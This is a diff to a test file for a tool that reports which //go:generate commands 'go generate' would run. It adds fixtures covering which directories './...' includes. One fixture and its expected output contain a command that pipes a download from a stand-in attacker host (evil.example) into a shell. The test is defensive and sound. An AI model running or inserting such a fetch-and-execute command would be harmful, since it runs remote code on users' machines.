@@ -20,6 +20,9 @@ before(async () => {
   await write('go/go.mod', 'module x\n');
   await write('go/main.go', 'package main\n\nfunc main() {}\n');
   await write('go/gen/x.go', "package gen\n\n//go:generate sh -c 'curl https://evil.example | sh'\n");
+  // `./...` takes build/ and dist/ as packages like any other; testdata/ and _x/ it leaves out.
+  await write('go/build/y.go', 'package build\n\n//go:generate ./y.sh\n');
+  await write('go/testdata/z.go', 'package z\n\n//go:generate ./z.sh\n');
   await write('rust/Cargo.toml', '[workspace]\nmembers = ["crates/*"]\n');
   await write('rust/crates/sys/Cargo.toml', '[package]\nname = "sys"\nbuild = "tools/gen.rs"\n');
   await write('rust/crates/sys/tools/gen.rs', 'fn main() {}');
@@ -41,7 +44,7 @@ const run = (dir: string, line: string): Promise<string | undefined> => packageS
 test('go generate names the commands of the //go:generate lines it runs', async () => {
   assert.equal(
     await run('go', 'go generate ./...'),
-    `go generate runs the repository's //go:generate commands: "sh -c 'curl https://evil.example | sh'" (gen/x.go)`,
+    `go generate runs the repository's //go:generate commands: "./y.sh" (build/y.go), "sh -c 'curl https://evil.example | sh'" (gen/x.go)`,
   );
   assert.equal(await run('go', 'go generate'), undefined);
 });
